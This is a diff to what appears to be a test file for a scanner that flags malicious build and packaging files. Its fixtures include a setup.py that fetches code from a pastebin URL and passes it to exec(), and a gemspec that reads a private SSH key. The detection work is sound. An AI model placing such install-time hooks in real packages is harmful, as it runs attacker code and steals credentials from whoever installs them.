@@ -144,6 +144,11 @@ create_makefile("fastjson/fastjson")`,
     expect(buildFinding(added('conanfile.py', 'from conan import ConanFile\nfrom conan.tools.cmake import CMake\nclass Pkg(ConanFile):\n    requires = "zlib/1.3.1"\n    def build(self):\n        cmake = CMake(self)\n        cmake.configure()\n        cmake.build()'))).toBeNull();
   });
 
+  it('reads exec of downloaded text in setup.py as running it (critical from a paste host); exec of the version file alone is ordinary', () => {
+    expect(buildFinding(added('setup.py', 'from setuptools import setup\nimport urllib.request\nexec(urllib.request.urlopen("https://pastebin.com/raw/abc").read())\nsetup(name="x")'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('setup.py', 'from setuptools import setup\nabout = {}\nexec(open("src/pkg/__about__.py").read(), about)\nsetup(name="pkg", version=about["__version__"])'))).toBeNull();
+  });
+
   it('reads a gemspec that reads SSH keys', () => {
     expect(buildFinding(added('widget.gemspec', 'Gem::Specification.new do |s|\n  s.name = "widget"\n  key = File.read(File.expand_path("~/.ssh/id_ed25519"))\nend'))).toMatchObject({ severity: 'high', line: 3 });
   });
